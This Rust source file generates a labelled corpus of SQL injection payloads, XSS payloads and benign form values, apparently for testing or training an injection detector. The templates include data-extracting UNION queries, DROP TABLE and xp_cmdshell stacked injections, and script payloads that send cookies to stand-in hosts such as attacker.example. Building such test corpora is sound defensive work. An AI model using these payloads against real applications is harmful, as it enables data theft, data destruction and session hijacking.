//! Bundled request-payload corpus. Attack strings follow the public payload
//! families emitted by common SQL injection and XSS scanners (boolean,
//! union, error, time based and stacked injections; script tags, event
//! handlers, URI schemes, encoded calls). Benign strings are form and query
//! values, including ones with quotes, keywords and angle brackets.

use std::collections::BTreeSet;

use rand::seq::IndexedRandom;
use rand::{Rng, SeedableRng};
use rand_chacha::ChaCha8Rng;

use super::Verdict;

pub const CORPUS_SEED: u64 = 0x5eed_c0de;
pub const N_SQLI: usize = 250;
pub const N_XSS: usize = 250;
pub const N_BENIGN: usize = 500;

#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Sample {
    pub payload: String,
    pub verdict: Verdict,
}

const SQLI: &[&str] = &[
    "{n}' OR '{a}'='{a}",
    "{n}' OR '{a}'='{a}'-- -",
    "{n} OR {k}={k}",
    "{n} OR {k}={k}-- ",
    "{n}' AND {k}={k}-- -",
    "{n}' AND {k}={j}#",
    "{n}) OR ({k}={k}",
    "{n}') OR ('{a}'='{a}",
    "\" OR \"\"=\"",
    "{w}'--",
    "{w}' #",
    "' OR 1=1 LIMIT 1-- -",
    "{n}' UNION SELECT {cols}-- -",
    "-{n} UNION ALL SELECT {cols}#",
    "{n}' UNION SELECT {c1},{c2} FROM {tbl}--",
    "' UNION SELECT NULL,version(),user()-- ",
    "{n} UNION SELECT table_name FROM information_schema.tables",
    "{n} AND EXTRACTVALUE({k},CONCAT(0x5c,(SELECT user())))",
    "{n}' AND UPDATEXML({k},CONCAT(0x7e,(SELECT database())),{k})-- -",
    "{n} AND 1=CONVERT(int,@@version)",
    "{n}' AND (SELECT {k} FROM (SELECT COUNT(*),CONCAT(version(),FLOOR(RAND(0)*2))x FROM {tbl} GROUP BY x)a)-- ",
    "{n}' AND SLEEP({s})-- -",
    "{n} AND SLEEP({s})",
    "{n}'; WAITFOR DELAY '0:0:{s}'--",
    "{n} AND BENCHMARK({big},MD5({k}))",
    "{n}' OR pg_sleep({s})--",
    "{n}' AND (SELECT {k} FROM (SELECT(SLEEP({s}))){w})-- ",
    "{n}; DROP TABLE {tbl}--",
    "{n}'; DELETE FROM {tbl} WHERE {k}={k}--",
    "'; INSERT INTO {tbl} VALUES('{w}','{w}')--",
    "{n}; EXEC xp_cmdshell('{w}')--",
    "{n}'; UPDATE {tbl} SET {c1}='{w}' WHERE {c2}={k}--",
    "{n}'/**/OR/**/{k}={k}#",
    "{n}'/*!50000UNION*/SELECT {cols}-- -",
    "{n}/**/AND/**/{k}={k}",
    "{n} ORDER BY {k}-- -",
    "{n}' ORDER BY {k}#",
    "{n}' GROUP BY {c1} HAVING {k}={k}--",
    "{n} AND ASCII(SUBSTRING((SELECT database()),{k},1))>{big2}",
    "{n}' AND (SELECT COUNT(*) FROM {tbl})>0-- -",
    "{n}' AND LENGTH(database())={k}#",
    "{n} AND {k}=({k}) AND '{a}'='{a}",
    "{n}' || '{a}'='{a}",
    "{n}' && {k}={k}-- ",
    "admin' OR '1'='1'/*",
    "{w}' AND {c1} LIKE '%{a}%'--",
    "{n} OR {c1} IS NOT NULL",
    "{n}' AND 0x{hex}=0x{hex}-- -",
];

const XSS: &[&str] = &[
    "<script>alert({n})</script>",
    "<script>alert('{w}')</script>",
    "<script>alert(document.cookie)</script>",
    "<script src=//{host}/{w}.js></script>",
    "<script>document.location='http://{host}/c?'+document.cookie</script>",
    "<script>eval(String.fromCharCode(97,108,101,114,116,40,{n},41))</script>",
    "\"><script>alert({n})</script>",
    "'><script>prompt({n})</script>",
    "</title><script>alert({n})</script>",
    "<img src=x onerror=alert({n})>",
    "<img src=\"{w}.png\" onerror=\"prompt({n})\">",
    "<img src=x onerror=document.write('{w}')>",
    "\"><img src=x onerror=alert(document.domain)>",
    "<svg onload=alert({n})>",
    "<svg/onload=confirm({n})>",
    "<svg><script>alert({n})</script></svg>",
    "<body onload=alert('{w}')>",
    "<iframe src=\"javascript:alert({n})\"></iframe>",
    "<iframe src=//{host}/{w}></iframe>",
    "<a href=\"javascript:alert(document.domain)\">{w}</a>",
    "<a href=javascript:eval('al'+'ert({n})')>{w}</a>",
    "<div onmouseover=\"alert({n})\">{w}</div>",
    "<input autofocus onfocus=alert({n})>",
    "<details open ontoggle=alert({n})>",
    "<marquee onstart=alert({n})>{w}</marquee>",
    "<video><source onerror=\"alert({n})\">",
    "<body background=\"javascript:alert({n})\">",
    "<object data=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\"></object>",
    "<div style=\"width:expression(alert({n}))\">",
    "<style>@import'javascript:alert({n})';</style>",
    "javascript:alert({n})",
    "javascript:eval('alert({n})')",
    "<img src=x onerror=&#97;&#108;&#101;&#114;&#116;({n})>",
    "<scr<script>ipt>alert({n})</scr</script>ipt>",
    "<ScRiPt>alert({n})</sCrIpT>",
    "<!--<img src=\"--><img src=x onerror=alert({n})//\">",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert({n})>",
    "<x onclick=alert({n})>click",
    "';alert({n});//",
    "\";alert(String.fromCharCode(88,83,83));//",
    "<img src=1 onerror=window.location='//{host}/'+document.cookie>",
];

const BENIGN: &[&str] = &[
    "{w}",
    "{w} {w}",
    "{w} {w} {w}",
    "{first} {last}",
    "{first} O'{last}",
    "{first} D'{last}",
    "{first}.{last}@{host}",
    "{first}_{n}@{host}",
    "{n}",
    "{n}.{d2}",
    "${n}.{d2}",
    "+1 {d3}-{d3}-{d4}",
    "{n} {street} St, Apt {k}",
    "{n} {street} Avenue",
    "{d4}-{d2}-{d2}",
    "{d2}/{d2}/{d4}",
    "{w} {w} near me",
    "how to {w} a {w}",
    "best {w} for {w} under ${n}",
    "please select a {w} from the list",
    "select your size",
    "drop off at {street} st",
    "order by {d2}:00 for same day delivery",
    "credit union {w} hours",
    "where is the {w} from",
    "insert card and press enter",
    "delete my account",
    "update shipping address",
    "movie script {w}",
    "the {w} and the {w}",
    "{w}'s {w}",
    "it's {w}",
    "don't {w} the {w}",
    "rock 'n' roll",
    "\"{w} {w}\"",
    "5' 11\" tall",
    "{k} < {n}",
    "price > {n}",
    "a <= b",
    "{w} & {w}",
    "{w}-{w}-{n}",
    "/{w}/{w}/{n}",
    "/{w}/{w}.html",
    "https://{host}/{w}?id={n}",
    "page={k}&sort={w}",
    "q={w}+{w}&lang=en",
    "{{\"q\":\"{w}\",\"page\":{k}}}",
    "SKU-{d4}-{w}",
    "{w} #{k}",
    "{w} -- {w}",
    "{w}; {w}",
    "{w} (the {w})",
    "{w}, {w}, and {w}",
    "I love {w}! :)",
    "C:\\Users\\{first}\\{w}.txt",
    "{w} = {w}",
    "1 + 1 = 2",
    "{n}%",
    "{w}_{w}",
    "Re: {w} {w}",
];

const WORDS: &[&str] = &[
    "shoes", "red", "laptop", "coffee", "garden", "blue", "jacket", "phone", "cheap", "flight", "hotel", "pizza",
    "music", "book", "river", "table", "chair", "window", "camera", "summer", "winter", "train", "ticket",
    "weather", "recipe", "chicken", "salad", "yoga", "bike", "repair", "apple", "orange", "banana", "guitar",
    "piano", "lesson", "school", "office", "desk", "lamp", "paint", "wall", "floor", "car", "insurance",
    "bank", "loan", "rate", "news", "sport", "football", "tennis", "movie", "night", "city", "map", "test",
    "user", "admin", "report", "alert", "select", "union", "script", "order", "drop", "value", "document",
];
const FIRST: &[&str] = &["john", "mary", "liam", "emma", "noah", "olivia", "ava", "lucas", "mia", "ethan", "zoe"];
const LAST: &[&str] = &["smith", "brien", "angelo", "garcia", "chen", "khan", "muller", "rossi", "silva", "nguyen"];
const STREETS: &[&str] = &["Main", "Oak", "Pine", "Maple", "Cedar", "Elm", "Lake", "Hill"];
const HOSTS: &[&str] = &["example.com", "mail.test", "shop.example", "evil.test", "attacker.example", "cdn.test"];
const TABLES: &[&str] = &["users", "accounts", "orders", "admin", "members", "products"];
const COLUMNS: &[&str] = &["username", "password", "email", "id", "name", "passwd", "token"];

/// Expands `{name}` placeholders; `{{` is a literal brace. `{a}` and `{k}`
/// keep one value per template so tautologies stay true.
fn fill(template: &str, rng: &mut ChaCha8Rng) -> String {
    let a = ((b'a' + rng.random_range(0..26)) as char).to_string();
    let k = rng.random_range(1..10).to_string();
    let mut out = String::new();
    let mut rest = template;
    while let Some(i) = rest.find('{') {
        out.push_str(&rest[..i]);
        rest = &rest[i + 1..];
        if let Some(r) = rest.strip_prefix('{') {
            out.push('{');
            rest = r;
            continue;
        }
        let j = rest.find('}').expect("closed placeholder");
        let v = match &rest[..j] {
            "n" => rng.random_range(1..10_000).to_string(),
            "k" => k.clone(),
            "j" => rng.random_range(10..20).to_string(),
            "s" => rng.random_range(2..11).to_string(),
            "big" => rng.random_range(1_000_000..9_000_000).to_string(),
            "big2" => rng.random_range(32..127).to_string(),
            "d2" => format!("{:02}", rng.random_range(0..100)),
            "d3" => format!("{:03}", rng.random_range(0..1000)),
            "d4" => format!("{:04}", rng.random_range(0..10_000)),
            "hex" => format!("{:x}", rng.random_range(0x1000..0xffff)),
            "a" => a.clone(),
            "w" => WORDS.choose(rng).unwrap().to_string(),
            "first" => FIRST.choose(rng).unwrap().to_string(),
            "last" => LAST.choose(rng).unwrap().to_string(),
            "street" => STREETS.choose(rng).unwrap().to_string(),
            "host" => HOSTS.choose(rng).unwrap().to_string(),
            "tbl" => TABLES.choose(rng).unwrap().to_string(),
            "c1" | "c2" => COLUMNS.choose(rng).unwrap().to_string(),
            "cols" => {
                let n = rng.random_range(1..7);
                let mut v: Vec<String> = (0..n).map(|_| "NULL".to_string()).collect();
                if rng.random_bool(0.5) {
                    v[rng.random_range(0..n)] = COLUMNS.choose(rng).unwrap().to_string();
                }
                v.join(",")
            }
            other => panic!("unknown placeholder {other}"),
        };
        out.push_str(&v);
        rest = &rest[j + 1..];
    }
    out.push_str(rest);
    out
}

/// Keyword case randomization that scanners apply to dodge naive filters.
fn random_case(s: &str, rng: &mut ChaCha8Rng) -> String {
    s.chars()
        .map(|c| if rng.random_bool(0.5) { c.to_ascii_uppercase() } else { c.to_ascii_lowercase() })
        .collect()
}

fn family(templates: &[&str], n: usize, verdict: Verdict, rng: &mut ChaCha8Rng) -> Vec<Sample> {
    let mut seen = BTreeSet::new();
    let mut out = Vec::with_capacity(n);
    let mut round = 0usize;
    while out.len() < n {
        let t = templates[round % templates.len()];
        round += 1;
        let mut p = fill(t, rng);
        if verdict != Verdict::Benign && round > templates.len() && rng.random_bool(0.2) {
            p = random_case(&p, rng);
        }
        if seen.insert(p.clone()) {
            out.push(Sample { payload: p, verdict });
        }
        assert!(round < n * 100, "template family too small for {n} unique samples");
    }
    out
}

/// Deterministic corpus: `N_SQLI` SQL injections, `N_XSS` XSS payloads and
/// `N_BENIGN` benign values, in that order.
pub fn payload_corpus() -> Vec<Sample> {
    payload_corpus_with(CORPUS_SEED)
}

pub fn payload_corpus_with(seed: u64) -> Vec<Sample> {
    let mut rng = ChaCha8Rng::seed_from_u64(seed);
    let mut out = family(SQLI, N_SQLI, Verdict::Sqli, &mut rng);
    out.extend(family(XSS, N_XSS, Verdict::Xss, &mut rng));
    out.extend(family(BENIGN, N_BENIGN, Verdict::Benign, &mut rng));
    out
}
